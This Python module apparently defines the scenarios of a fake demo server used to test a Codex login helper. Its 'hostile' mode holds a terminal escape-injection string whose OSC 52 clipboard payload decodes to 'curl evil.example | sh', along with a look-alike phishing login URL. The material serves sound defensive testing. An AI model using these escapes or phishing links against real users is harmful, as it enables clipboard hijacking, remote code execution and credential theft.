"""What the demo server pretends to be: the knobs (DemoScenario) and the fixed facts behind them."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class DemoScenario:
    """Knobs for tests and screenshots; the defaults are a healthy, logged-in server.

    `node_version=""` means Node.js is not installed (so neither is npm, and codex cannot run).
    `pace` scales every simulated delay (npm install, time to the URL, token exchange): tests
    pass a small value, screenshots and people keep 1.0.
    `live_check` is how `codex exec` (the test prompt) ends: "reply", "refresh_used" or
    "usage_limit" (it says 401 when not logged in).
    `hostile` makes the server act compromised: codex's lines, the tools' versions, `uname`,
    port owners' names, auth.json's fields and sshd's refusals carry HOSTILE's escapes, and
    codex prints look-alike login links (tests prove none of it reaches the terminal raw).
    """

    codex_installed: bool = True
    codex_on_login_path_only: bool = False
    node_version: str = "22.11.0"
    port_1455_busy: bool = False
    forwarding_refused: bool = False
    logged_in: bool = True
    token_exchange_fails: bool = False
    saves_no_login: bool = False  # codex says "Successfully logged in" but writes no auth.json
    live_check: str = "reply"
    hostile: bool = False
    pace: float = 1.0


DEMO_USER = "demo"
DEMO_HOST_ALIAS = "demo"
HOME = "/home/demo"
SHELL = "/bin/bash"
PLAIN_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
NPM_GLOBAL_BIN = f"{HOME}/.npm-global/bin"
LOGIN_PATH = f"{NPM_GLOBAL_BIN}:{PLAIN_PATH}"
NODE_DIR = "/usr/bin"
NPM_VERSION = "10.9.0"
CODEX_VERSION = "0.169.0"
CODEX_VERSION_LINE = f"codex-cli {CODEX_VERSION}"
BUSY_PORT_HOLDER = ("python3", 2211)
"""Who holds 1455 in the port_1455_busy scenario (a stray `python3 -m http.server 1455`)."""
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # OSC 52: set the clipboard (ST)
    "\x1b]0;owned\x07"  # OSC 0: the window title (BEL)
    "\x1bP+q544e\x1b\\"  # DCS: ask the terminal itself
    "\x9b2J\x9d0;t\x9c"  # 8-bit CSI (clear screen), 8-bit OSC and ST
    "\x1b[31m\u202e\x07\x08\x7f\x85"  # colour, bidi override, BEL, BS, DEL, NEL
)
"""What the hostile scenario's server adds to every string it sends."""
HOSTILE_PORT_HOLDER = ("node" + HOSTILE, 3131)
"""Who holds 1457 in the hostile scenario: a process named with escapes."""
HOSTILE_LOGIN_URL = (
    "https://auth.openai.com.evil.example/oauth/authorize?response_type=code"
    "&redirect_uri=http%3A%2F%2F127.0.0.1%3A1455%2Fauth%2Fcallback"
)
HOSTILE_DEVICE_URL = "https://evil.example/codex/device"
